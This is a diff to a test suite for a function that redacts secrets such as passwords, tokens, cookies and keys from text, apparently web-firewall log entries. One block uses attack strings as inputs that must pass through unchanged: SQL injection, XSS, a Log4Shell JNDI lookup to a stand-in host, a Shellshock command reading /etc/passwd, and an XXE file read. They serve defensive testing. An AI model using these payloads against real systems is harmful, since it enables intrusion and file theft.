@@ -26,6 +26,98 @@ describe('what may be secret is taken out of a text', () => {
   })
 })
 
+describe('a value is taken out as a whole', () => {
+  test.for([
+    ['{"password":"abc\\"SECRET"}', '{"password":[redacted]}'],
+    ["{'password':'abc\\'SECRET'}", "{'password':[redacted]}"],
+    ['"password":{"a":{"b":"}"},"c":"SECRET"},"q":1', '"password":[redacted],"q":1'],
+    ['password: ["a", "SECRET"], q: 1', 'password: [redacted], q: 1'],
+    ["'password' => 'SECRET'", "'password' => [redacted]"],
+    ['password=ab;SECRET&q=1', 'password=[redacted]&q=1'],
+    ['password=ab,SECRET&q=1', 'password=[redacted]&q=1'],
+    ['password=ab"SECRET&q=1', 'password=[redacted]&q=1'],
+    ['password=a{b}SECRET', 'password=[redacted]'],
+    ['<a href="?token=SECRET">q</a>', '<a href="?token=[redacted]">q</a>'],
+    ['{password:SECRET,user:ada}', '{password:[redacted],user:ada}'],
+    ['{"name":"password","value":"SECRET"}', '{"name":"password","value":[redacted]}'],
+    ['<input name="pw" type=text value="SECRET">', '<input name="pw" type=text value=[redacted]>'],
+  ])('%s', ([given, left]) => {
+    expect(redact(given as string)).toBe(left)
+  })
+})
+
+describe('a secret is seen behind escapes', () => {
+  test.for([
+    ['{\\"password\\":\\"SECRET\\"}', '{\\"password\\":[redacted]}'],
+    ['{\\"password\\":\\"a\\\\\\"SECRET\\"}', '{\\"password\\":[redacted]}'],
+    ['{\\u0022password\\u0022:\\u0022SECRET\\u0022}', '{\\u0022password\\u0022:[redacted]}'],
+    ['{"p\\u0061ssword":"SECRET"}', '{"p\\u0061ssword":[redacted]}'],
+    ['password%253DSECRET', 'password%253D[redacted]'],
+    ['pass%77ord=SECRET&q=1', 'pass%77ord=[redacted]&q=1'],
+    ['password%3Da%20SECRET%26q%3D1', 'password%3D[redacted]%26q%3D1'],
+    [
+      '%7B%22password%22%3A%22SECRET%22%2C%22q%22%3A%221%22%7D',
+      '%7B%22password%22%3A[redacted]%2C%22q%22%3A%221%22%7D',
+    ],
+    ['&lt;password&gt;SECRET&lt;/password&gt;', '&lt;password&gt;[redacted]&lt;/password&gt;'],
+  ])('%s', ([given, left]) => {
+    expect(redact(given as string)).toBe(left)
+  })
+})
+
+describe('a secret is seen by where it stands', () => {
+  test.for([
+    ['<password>SECRET</password><q>1</q>', '<password>[redacted]</password><q>1</q>'],
+    ['<a:passwd b="1"><![CDATA[SECRET]]></a:passwd>', '<a:passwd b="1">[redacted]</a:passwd>'],
+    [
+      '<name>password</name><value><string>SECRET</string></value><q>',
+      '<name>password</name><value>[redacted]</value><q>',
+    ],
+    [
+      '<methodName>wp.getUsersBlogs</methodName><params><param><value>SECRET',
+      '<methodName>wp.getUsersBlogs</[redacted]',
+    ],
+    [
+      'form-data; name="password"\r\n\r\nSEC\r\nRET\r\n--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n1',
+      'form-data; name="password"\r\n\r\n[redacted]\n--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n1',
+    ],
+    [
+      'name="token"; filename="a"\r\nContent-Type: text/plain\r\n\r\nSECRET',
+      'name="token"; filename="a"\r\nContent-Type: text/plain\r\n\r\n[redacted]',
+    ],
+    ['postgres://user:SECRET@db/q', 'postgres://user:[redacted]@db/q'],
+    ['http://user:SEC@RET@host/x', 'http://user:[redacted]@host/x'],
+    ['redis://:SECRET@host:6379', 'redis://:[redacted]@host:6379'],
+    ['PHPSESSID=SECRET', 'PHPSESSID=[redacted]'],
+    ['SESSID=SECRET', 'SESSID=[redacted]'],
+    ['sid=SECRET', 'sid=[redacted]'],
+    ['csrf=SECRET', 'csrf=[redacted]'],
+    [
+      'user_pass=SECRET&pass1=SECRET&pw=SECRET',
+      'user_pass=[redacted]&pass1=[redacted]&pw=[redacted]',
+    ],
+  ])('%s', ([given, left]) => {
+    expect(redact(given as string)).toBe(left)
+  })
+})
+
+describe('a secret is seen by its look', () => {
+  test.for([
+    ['see ghp_0123456789abcdefABCDEF here', 'see [redacted] here'],
+    ['see github_pat_0123456789_abcdef', 'see [redacted]'],
+    ['see AKIAIOSFODNN7EXAMPLE', 'see [redacted]'],
+    ['cut off eyJhbGciOiJIUzI1NiJ9.eyJzdW', 'cut off [redacted]'],
+    ['n=4111.1111.1111.1111', 'n=[redacted]'],
+    [
+      '-----BEGIN RSA PRIVATE KEY-----\nSECRET\n-----END RSA PRIVATE KEY-----',
+      '-----BEGIN RSA PRIVATE KEY-----[redacted]-----END RSA PRIVATE KEY-----',
+    ],
+    ['-----BEGIN PRIVATE KEY-----\\nSECRET', '-----BEGIN PRIVATE KEY-----[redacted]'],
+  ])('%s', ([given, left]) => {
+    expect(redact(given as string)).toBe(left)
+  })
+})
+
 describe('what is no secret stays', () => {
   test.for([
     "id=1' UNION SELECT name FROM users--",
@@ -34,6 +126,13 @@ describe('what is no secret stays', () => {
     '17723554928712503417723554928712503',
     'Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101',
     'Matched Data: ../ found within ARGS:name: ../../etc/passwd',
+    'Matched Data: <script found within ARGS:q: <script>alert(document.domain)</script>',
+    'q=1%27%20UNION%20SELECT%20NULL,NULL,name%20FROM%20users--',
+    '{"q":"\\u003cscript\\u003ealert(1)"}',
+    '${jndi:ldap://192.0.2.1:1389/a}',
+    'http://192.0.2.1:8080/a?mail=ada@example.com',
+    '() { :;}; /bin/bash -c "cat /etc/passwd"',
+    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
   ])('%s', (text) => {
     expect(redactMatch(text)).toBe(text)
   })
@@ -42,6 +141,7 @@ describe('what is no secret stays', () => {
 describe('a match in a secret variable is a secret as a whole', () => {
   test.for([
     'Matched Data: hunter2 found within ARGS:password: hunter2 and more',
+    'Matched Data: hunter2 found within ARGS:new password: hunter2',
     'Matched Data: hunter2 found within REQUEST_COOKIES:visit: hunter2',
     'Matched Data: hunter2 found within REQUEST_HEADERS:X-Api-Key: hunter2',
     'Matched Data: hunter2 found within ARGS:json.user.token: a found within ARGS:q: hunter2',
@@ -52,18 +152,45 @@ describe('a match in a secret variable is a secret as a whole', () => {
   })
 })
 
-test('a text made to be slow is looked through at once', () => {
-  for (const part of [
+test('what a secret variable holds is a secret, however long it is', () => {
+  const text = `Matched Data: ${'SECRET '.repeat(5_000)}found within ARGS:password: SECRET`
+  expect(redactMatch(text)).not.toContain('SECRET')
+})
+
+/** Enough that what retries at every character, as the search once did, takes minutes: the test's time-out is the bar. */
+const LONG = 250_000
+
+describe('a text made to be slow is looked through in one go', () => {
+  test.for([
     'a',
+    '%3',
     '=',
-    '1 ',
+    '[',
     'a%3D',
     '"',
     'eyJ',
+    "against variable `'",
     'against variable `',
     'found within A:',
-  ]) {
-    const text = part.repeat(8_192 / part.length)
+    '1 ',
+    ' ',
+    '\\"',
+    '%25253D',
+    'password=',
+    'password={',
+    'password=";a',
+    '<password>',
+    '<a ',
+    'name="a"\n',
+    'name="a" ',
+    '//a:',
+    '-----BEGIN ',
+    'bearer ',
+    'cookie:\n',
+    'AKIA',
+  ])('%s', (part) => {
+    const text = `${part.repeat(LONG / part.length)}=`
+    expect(redact(text).length).toBeGreaterThan(0)
     expect(redactMatch(text).length).toBeGreaterThan(0)
-  }
+  })
 })
